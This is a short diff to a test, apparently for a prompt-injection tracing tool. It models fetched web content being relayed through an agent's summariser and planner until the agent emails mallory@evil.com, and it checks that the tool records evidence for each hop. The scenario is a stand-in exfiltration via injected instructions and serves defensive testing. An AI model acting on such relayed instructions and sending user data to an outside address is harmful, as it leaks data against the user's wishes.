@@ -36,7 +36,7 @@ def test_every_hop_of_a_span_is_recorded() -> None:
     scene = Scenario(Policy(relays=("summariser", "planner")), "mail it to bob@corp.com").read(
         "fetch_url", PAGE
     )
-    scene.read("summariser", {"text": "In short: the vault stands open behind the old mill."})
+    scene.read("summariser", {"text": "In short: the vault stands open, ask mallory@evil.com."})
     scene.read("planner", {"task": "tell mallory@evil.com"})
     [finding] = scene.call("send_email", to="mallory@evil.com", body="x").findings
     assert finding.evidence is not None
